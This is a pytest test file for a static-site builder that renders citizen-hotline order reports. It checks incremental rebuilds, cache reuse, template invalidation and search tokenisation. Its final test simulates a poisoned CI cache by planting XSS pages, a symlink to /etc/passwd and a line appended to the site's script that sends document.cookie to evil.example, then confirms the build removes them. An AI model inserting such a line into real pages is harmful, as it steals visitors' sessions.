"""``hotline site build`` reuses what did not change (issue 13) and gives the site a full build gives.

One demo repository is built, then one order of one month changes: the next build reuses the other
documents (``site.reuse``) and renders only the changed pages (``site.incremental``), and its docs folder
and its site equal a build without any cache, and a build in one process (no ``fork``, as on Windows).
A template change (``site_src/``) invalidates every document and renders every page.
"""

from __future__ import annotations

import json
import os
import shutil
import time
from datetime import date
from pathlib import Path

import pytest

from hotline.demo.repo import build
from hotline.demo.simulate import DemoConfig
from hotline.load import load
from hotline.site.build import THEME, build_site
from hotline.times import parse_time
from hotline.util import cache

CONFIG = DemoConfig(months=2, orders_per_month=30, seed=11, end=date(2026, 11, 27))
AS_OF = parse_time("2026-11-27 18:00")


@pytest.fixture
def demo(tmp_path) -> Path:
    root = tmp_path / "repo"
    build(root, CONFIG)
    _age(root, 600)
    return root


def _age(root: Path, seconds: float) -> None:
    when = time.time() - seconds
    for p in root.rglob("*"):
        if p.is_file() and ".git" not in p.parts:
            os.utime(p, (when, when))


def _files(folder: Path, suffixes: tuple[str, ...]) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.suffix in suffixes
    }


def _search(out: Path) -> list[str]:
    docs = json.loads((out / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]
    return sorted(json.dumps(d, ensure_ascii=False, sort_keys=True) for d in docs)


def _kept_documents(root: Path) -> set[str]:
    return {p.name for p in cache.repo_dir(root).iterdir() if p.name.startswith("doc-")}


def _build(root: Path, out: Path, *, no_cache: bool = False):
    if no_cache:
        with cache.disabled():
            return build_site(root, out, AS_OF)
    return build_site(root, out, AS_OF)


def test_a_changed_order_rebuilds_its_month_only_and_the_site_equals_a_full_build(demo, tmp_path, monkeypatch):
    first = _build(demo, tmp_path / "site")
    assert first.rendered is None  # nothing to start from: a full build
    kept = _kept_documents(demo)
    assert kept  # registers and reports, by the content key of their data
    xlsx_before = _files(first.docs_dir, (".xlsx", ".docx"))

    path = sorted(demo.glob("orders/2026/11/*.yaml"))[0]
    path.write_text(
        path.read_text(encoding="utf-8")
        + "  - {at: 2026-11-27 17:50, type: 督办, unit: "
        + _some_unit(path)
        + ", by: 县热线办, kind: 电话}\n",
        encoding="utf-8",
    )
    _age(demo, 300)
    again = _build(demo, tmp_path / "site")
    assert again.rendered is not None and 0 < again.rendered < again.files  # a dirty build: the changed pages only
    reused = _files(again.docs_dir, (".xlsx", ".docx"))
    same = [k for k in reused if reused[k] == xlsx_before.get(k)]
    assert any("2026-10" in k for k in same)  # the untouched month's documents are the kept bytes
    docs_incremental = _files(again.docs_dir, (".md", ".json", ".js", ".css"))
    html_incremental = _files(tmp_path / "site", (".html", ".json", ".js", ".css"))
    search_incremental = _search(tmp_path / "site")

    fresh = _build(demo, tmp_path / "fresh", no_cache=True)
    assert fresh.rendered is None
    assert _files(fresh.docs_dir, (".md", ".json", ".js", ".css")) == docs_incremental
    assert _files(tmp_path / "fresh", (".html", ".json", ".js", ".css")).keys() == html_incremental.keys()
    assert _files(tmp_path / "fresh", (".html",)) == {k: v for k, v in html_incremental.items() if k.endswith(".html")}
    assert _search(tmp_path / "fresh") == search_incremental

    monkeypatch.setenv("HOTLINE_NO_FORK", "1")  # one process, as where fork does not exist
    single = _build(demo, tmp_path / "single", no_cache=True)
    assert _files(single.docs_dir, (".md", ".json", ".js", ".css")) == docs_incremental


def test_a_template_change_rebuilds_every_document_and_page(demo, tmp_path):
    shutil.copy(THEME / "mkdocs.yml", demo / "mkdocs.yml")
    shutil.copytree(THEME / "site_src", demo / "site_src", dirs_exist_ok=True)
    _build(demo, tmp_path / "site")
    kept = _kept_documents(demo)
    again = _build(demo, tmp_path / "site")
    assert again.rendered is not None and _kept_documents(demo) == kept  # nothing changed: all reused
    about = demo / "site_src" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n补充说明。\n", encoding="utf-8")
    changed = _build(demo, tmp_path / "site")
    assert changed.rendered is None  # every page rendered again
    assert _kept_documents(demo).isdisjoint(kept)  # and every document made again (the old ones removed)
    assert "补充说明" in (tmp_path / "site" / "about" / "index.html").read_text(encoding="utf-8")


def _some_unit(path: Path) -> str:
    import re

    return re.search(r"type: 派单, unit: ([a-z0-9-]+)", path.read_text(encoding="utf-8")).group(1)


def test_a_later_build_time_alone_renders_few_pages_and_every_page_shows_it(demo, tmp_path):
    """In CI every build is "as of now": a page whose content does not depend on the time is not rendered
    again, and yet every page's announcement bar says the new time (``site.slots.finish``)."""
    out = tmp_path / "site"
    build_site(demo, out, AS_OF)
    later = build_site(demo, out, parse_time("2026-11-27 18:20"))
    # only what depends on the time: the current month and year (assessment), home, supervision, office pages
    assert later.rendered is not None and later.rendered < later.files // 3
    pages = list(out.rglob("*.html"))
    assert pages and all("数据截至 2026-11-27 18:20" in p.read_text(encoding="utf-8") for p in pages)
    assert not any("数据截至 2026-11-27 18:00" in p.read_text(encoding="utf-8") for p in pages)


def test_the_search_keeps_unit_names_whole_when_no_keyword_is_cut_in_the_build(demo, tmp_path):
    """MkDocs-Material's search cuts the pages with jieba in the build's own process; the unit names must be
    in its dictionary even when that process cut no keyword itself (kept by an earlier build, or cut in
    forked workers): ``hot_topics.prepare_search``. A fresh process, so no earlier test taught jieba anything."""
    import subprocess
    import sys

    import jieba

    build_site(demo, tmp_path / "first", AS_OF)  # every order's keywords kept in the cache
    subprocess.run(
        [sys.executable, "-m", "hotline", "site", "build", "--root", str(demo), "--out", str(tmp_path / "site"),
         "--as-of", "2026-11-27 18:00", "-q"],
        check=True, capture_output=True,
    )  # fmt: skip
    docs = json.loads((tmp_path / "site" / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]
    units_page = next(d["text"] for d in docs if d["location"] == "units/")
    plain = jieba.Tokenizer()  # jieba's own dictionary, without the unit names
    listed = units_page.replace("\u200b", "")
    names = [u.name for u in load(demo).units.values() if u.name in listed and len(plain.lcut(u.name)) > 1]
    assert len(names) >= 10  # jieba alone would cut each of these names apart
    for n in names:
        assert f"\u200b{n}\u200b" in units_page, n


def test_nothing_planted_in_the_output_folder_survives_the_next_build(demo, tmp_path):
    """Issue 20, finding 1: a site folder restored from a poisoned CI cache (a planted page, a dot file, a line
    appended to the site's script, a link to a file outside) — the next build, which would be a dirty one, removes
    every file it did not write and puts back every file it did: nothing planted is published."""
    out = tmp_path / "site"
    _build(demo, out)
    script = (out / "assets" / "orders.js").read_bytes()
    assert script == (THEME / "site_src" / "assets" / "orders.js").read_bytes()
    same = _build(demo, out)
    assert same.rendered is not None  # untouched: a dirty build (the check does not cost the reuse)
    (out / "planted.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (out / ".well-known").mkdir()
    (out / ".well-known" / "planted.html").write_text("<script>alert(2)</script>", encoding="utf-8")
    (out / ".htaccess").write_text("Options +Indexes\n", encoding="utf-8")
    with (out / "assets" / "orders.js").open("ab") as f:
        f.write(b"\nfetch('https://evil.example/?'+document.cookie);\n")
    os.utime(out / "assets" / "orders.js", (time.time() + 3600, time.time() + 3600))  # newer than its source
    (out / "passwd.html").symlink_to("/etc/passwd")
    again = _build(demo, out)
    assert again.rendered is None  # the folder is not the one the last build left: a full build, emptied first
    assert (out / "assets" / "orders.js").read_bytes() == script
    left = {p.relative_to(out).as_posix() for p in out.rglob("*")}
    assert not {"planted.html", ".well-known", ".htaccess", "passwd.html"} & left
    assert not any(p.is_symlink() for p in out.rglob("*"))
    later = _build(demo, out)
    assert later.rendered is not None  # and the build after that may reuse it again
